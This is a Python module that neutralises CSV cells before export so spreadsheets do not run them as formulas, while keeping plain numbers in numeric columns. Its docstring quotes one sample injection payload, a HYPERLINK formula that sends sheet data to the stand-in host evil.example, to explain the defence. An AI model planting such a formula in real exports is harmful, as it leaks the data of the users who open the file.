"""Writing CSV that is safe to open in a spreadsheet: every CSV download goes through here.

Names, quotes and explanations come from vendors' documents and leaderboards we do not control.
A cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return, which spreadsheets
skip before reading one of those) is run as a formula by Excel, LibreOffice and Google Sheets:
`=HYPERLINK("https://evil.example/?"&A1, "click")` in a vendor name would leak the sheet. Such
text is prefixed with a single quote, as OWASP's "CSV Injection" page recommends, so the
spreadsheet shows it as text.

Numbers are the exception: a negative gap (`-2.9`) must stay a number a reader can sum. Columns
declared numeric keep a value that is a plain decimal number as it is; anything else in them
(text where a number was expected) is neutralised like any other cell.
"""

from __future__ import annotations

import csv
import math
import re
from collections.abc import Collection, Iterable, Sequence
from typing import Any, Protocol

# OWASP, "CSV Injection": the characters that make a spreadsheet read a cell as a formula.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")

# What a numeric column may hold untouched: an optional minus, digits, an optional fraction and
# exponent. No leading "+", no spaces, nothing a spreadsheet could read as an expression.
_PLAIN_NUMBER = re.compile(r"-?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")


class TextSink(Protocol):
    def write(self, text: str, /) -> Any: ...


def neutralise(text: str) -> str:
    """Text a spreadsheet will show as typed, never run as a formula."""
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def is_plain_number(text: str) -> bool:
    """A decimal number as written ("-2.9", "1e-3"): a spreadsheet reads it as a value, never as
    a formula (unlike "nan", "-inf" or "-1+1")."""
    return bool(_PLAIN_NUMBER.fullmatch(text))


def csv_cell(value: object, *, numeric: bool = False) -> str:
    """One value as a safe CSV cell. None is empty; numbers stay numbers in numeric columns."""
    if value is None:
        return ""
    if numeric and _is_number(value):
        return str(value)
    text = str(value)
    if numeric and _PLAIN_NUMBER.fullmatch(text):
        return text
    return neutralise(text)


def _is_number(value: object) -> bool:
    # bool is an int to Python, but True is not a figure; nan and inf are not plain numbers.
    if isinstance(value, bool) or not isinstance(value, int | float):
        return False
    return math.isfinite(value)


class SafeCsvWriter:
    """csv.writer with a header, whose cells are neutralised unless their column is numeric."""

    def __init__(
        self, out: TextSink, *, header: Sequence[str], numeric_columns: Collection[str] = ()
    ) -> None:
        unknown = set(numeric_columns) - set(header)
        if unknown:
            raise ValueError(f"numeric columns not in the header: {sorted(unknown)}")
        self._writer = csv.writer(out)
        self._numeric = [name in numeric_columns for name in header]
        self._writer.writerow([neutralise(name) for name in header])

    def writerow(self, values: Sequence[object]) -> None:
        if len(values) != len(self._numeric):
            raise ValueError(f"a row has {len(values)} cells, the header {len(self._numeric)}")
        self._writer.writerow(
            [
                csv_cell(value, numeric=numeric)
                for value, numeric in zip(values, self._numeric, strict=True)
            ]
        )

    def writerows(self, rows: Iterable[Sequence[object]]) -> int:
        count = 0
        for row in rows:
            self.writerow(row)
            count += 1
        return count
